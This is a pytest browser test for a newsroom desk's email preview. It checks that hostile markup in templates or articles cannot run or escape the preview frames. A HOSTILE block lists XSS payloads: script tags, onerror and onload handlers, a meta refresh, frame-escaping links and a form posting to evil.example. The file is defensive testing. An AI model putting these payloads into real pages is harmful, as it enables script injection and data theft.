"""The desk's preview in a real headless Chromium: nothing in the email can act on the desk.

Set ``BRIEFING_SCREENSHOTS`` to a folder (``docs/images``) to keep the
screenshot docs/desk.md shows (``desk-preview.png``); otherwise it goes to a
temporary folder.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from briefing.audience.imports import import_subscribers
from briefing.domain.states import Role
from briefing.ingest import ingest
from briefing.pipeline.render import DEFAULT_TEMPLATES
from briefing.store import open_database
from tests.support.browser import chromium, playwright_or_skip
from tests.support.desk import DESK, PASSWORD, START, DeskSite, serve_desk
from tests.support.factories import NOW, make_project, markdown_article
from tests.support.web import SUBSCRIBERS

sync_api = playwright_or_skip()

PREVIEW = f"{DESK}edition/daily/{START.date().isoformat()}/preview"
EVIL = "https://evil.example/"
# What an article, a feed or a careless template could put in an email: each line tries to
# run script, reach the desk page, or navigate away; each marks the body if it ran.
HOSTILE = f"""<mj-raw>
<script>document.body.setAttribute('data-ran', 'script'); top.document.title = 'pwned';
window.parent.document.body.innerHTML = 'pwned'; alert('pwned');</script>
<img src="x" alt="" onerror="document.body.setAttribute('data-ran', 'onerror'); parent.location = '{EVIL}'">
<svg onload="document.body.setAttribute('data-ran', 'svg')"></svg>
<meta http-equiv="refresh" content="0;url={EVIL}">
<a id="escape" target="_top" href="{EVIL}">Escape the frame</a>
<a id="popup" target="_blank" href="{EVIL}">Open a window</a>
<form id="steal" action="{EVIL}steal" method="post" target="_top"><input name="q" value="1"><button id="send">Send</button></form>
<iframe id="inner" src="javascript:parent.parent.document.title='pwned'"></iframe>
</mj-raw>"""


def hostile_project(folder: Path) -> Any:
    config = make_project(folder, world=2, sport=1, wire=1)
    # A site template with raw HTML in it: the strongest case, past every sanitiser.
    default = (DEFAULT_TEMPLATES / "digest.mjml.j2").read_text(encoding="utf-8")
    body = default.index(">", default.index("<mj-body")) + 1
    templates = config.base_dir / "templates"
    templates.mkdir()
    (templates / "digest.mjml.j2").write_text(
        default[:body] + HOSTILE + default[body:], encoding="utf-8"
    )
    # And an article whose headline and body carry markup, through the real ingest.
    markdown_article(
        config.base_dir / "content" / "world",
        "hostile.md",
        title="<script>top.document.title='pwned'</script> Council <b>votes</b>",
        url="https://news.example.org/world/hostile",
        published=(NOW - timedelta(minutes=30)).isoformat(),
        body=f'<img src=x onerror="alert(1)"> <a target="_top" href="{EVIL}">Read</a> Votes.',
    )
    return config


@pytest.fixture
def shots(tmp_path: Path) -> Path:
    folder = Path(os.environ.get("BRIEFING_SCREENSHOTS") or tmp_path / "shots")
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def serve(config: Any) -> Iterator[DeskSite]:
    database = open_database(config.database)
    ingest(config, database, NOW - timedelta(minutes=10))
    subscribers = config.base_dir / "subscribers.csv"
    subscribers.write_text(SUBSCRIBERS, encoding="utf-8")
    import_subscribers(config, database, subscribers, START - timedelta(hours=1))
    try:
        with serve_desk(config, database) as served:
            served.add("ed", Role.EDITOR)
            yield served
    finally:
        database.dispose()


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[DeskSite]:
    yield from serve(hostile_project(tmp_path))


@pytest.fixture
def plain(tmp_path: Path) -> Iterator[DeskSite]:
    config = make_project(tmp_path, world=3, sport=2, wire=2)
    yield from serve(config)


@pytest.fixture
def browser() -> Iterator[Any]:
    with chromium(sync_api) as launched:
        yield launched


def open_preview(browser: Any, site: DeskSite, query: str, **viewport: int) -> tuple[Any, str]:
    """Log in as the editor through the login page and land on the preview; return tab, URL."""
    origin = str(site.client.base_url).rstrip("/")
    context = browser.new_context(viewport=viewport or {"width": 1400, "height": 1000})
    tab = context.new_page()
    wanted = origin + PREVIEW + query
    tab.goto(wanted)
    tab.get_by_label("Name").fill("ed")
    tab.get_by_label("Password").fill(PASSWORD)
    tab.get_by_role("button", name="Log in").click()
    tab.wait_for_load_state("load")  # the frames too
    assert tab.url == wanted
    return tab, wanted


def email_frames(tab: Any) -> list[Any]:
    return [frame for frame in tab.frames if frame.parent_frame == tab.main_frame]


def test_nothing_in_the_email_runs_or_reaches_the_desk_page(
    browser: Any, hostile: DeskSite
) -> None:
    dialogs: list[str] = []
    popups: list[str] = []
    tab, wanted = open_preview(browser, hostile, "?sections=world")
    tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    tab.context.on("page", lambda page: popups.append(page.url))
    title = tab.title()
    assert title.startswith("Preview: daily, issue of 2026-11-26")
    frames = email_frames(tab)
    assert len(frames) == 3
    tab.wait_for_timeout(1500)  # the meta refresh asked for 0 seconds
    for frame in frames:
        assert "/preview/html?" in frame.url, frame.url  # not navigated away
        body = frame.locator("body")
        assert body.get_attribute("data-ran") is None  # no script, handler or svg ran
        assert frame.get_by_text("Escape the frame").is_visible()
        # The markup of the article's headline is text (or gone), never elements.
        assert frame.locator("b", has_text="votes").count() == 0
        assert "Council" in body.inner_text()
    # Try every way out a reader's click could take.
    first = frames[0]
    first.locator("#escape").click()
    first.locator("#popup").click()
    first.locator("#send").click()
    tab.wait_for_timeout(1000)
    assert tab.url == wanted
    assert tab.title() == title
    assert tab.get_by_role("heading", level=1).inner_text() == title.split(" · ")[0]
    # The desk page shows the headline's markup as text, escaped.
    headline = "<script>top.document.title='pwned'</script> Council"
    assert tab.locator("main strong", has_text=headline).is_visible()
    assert tab.locator("main script").count() == 0
    assert dialogs == [] and popups == []
    for frame in email_frames(tab):
        assert "/preview/html?" in frame.url


def test_the_preview_page_shows_the_email_at_three_sizes_and_in_dark_mode(
    browser: Any, plain: DeskSite, shots: Path
) -> None:
    problems: list[str] = []
    tab, _ = open_preview(browser, plain, "?sections=world,business", width=1500, height=1250)
    tab.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
    phone, desktop, dark = email_frames(tab)
    assert tab.locator("iframe.phone").first.bounding_box()["width"] == pytest.approx(375, abs=3)
    assert tab.locator("iframe.desktop").bounding_box()["width"] == pytest.approx(640, abs=3)

    def background(frame: Any, selector: str) -> str:
        colour: str = frame.locator(selector).first.evaluate(
            "element => getComputedStyle(element).backgroundColor"
        )
        return colour

    # The light frames show the email's own colours; the dark one its dark-mode styles:
    # a dark page, dark cards under light text.
    for light in (phone, desktop):
        assert background(light, ".page") == "rgb(243, 242, 238)"
        assert background(light, ".card") == "rgb(255, 255, 255)"
    assert background(dark, ".page") == "rgb(18, 18, 18)"
    assert background(dark, ".card") == "rgb(30, 30, 30)"
    text: str = dark.locator(".card div", has_text="The Daily").last.evaluate(
        "element => getComputedStyle(element).color"
    )
    assert text == "rgb(232, 232, 232)"
    assert "Under the clip" in tab.locator("main").inner_text()
    assert tab.get_by_role("button", name="Send test").count() == 0  # no address configured
    tab.locator("h2", has_text="As readers see it").scroll_into_view_if_needed()
    tab.evaluate("window.scrollTo(0, 0)")
    tab.screenshot(path=str(shots / "desk-preview.png"))
    assert problems == [], problems  # no CSP refusal of the frames, no script error
